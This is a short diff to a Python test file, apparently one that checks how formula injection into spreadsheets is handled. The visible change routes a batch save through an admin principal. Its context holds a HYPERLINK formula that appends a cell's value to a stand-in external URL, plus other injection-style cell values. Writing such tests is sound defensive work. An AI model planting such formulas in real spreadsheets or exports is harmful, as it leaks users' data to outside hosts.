@@ -10,6 +10,7 @@ import pandas as pd
 import pytest
 
 from lib import cli, store
+from tests.principals import admin
 
 FORMULAS = [
     '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
@@ -33,7 +34,7 @@ def follow_ups(db):
             "catatan": ["Kirim data", "", "@catatan", "\t=1"],
         }
     )
-    store.save_batch("tindak_lanjut", rows, "uji")
+    store.save_batch("tindak_lanjut", rows, admin("uji"))
     return db
 
 
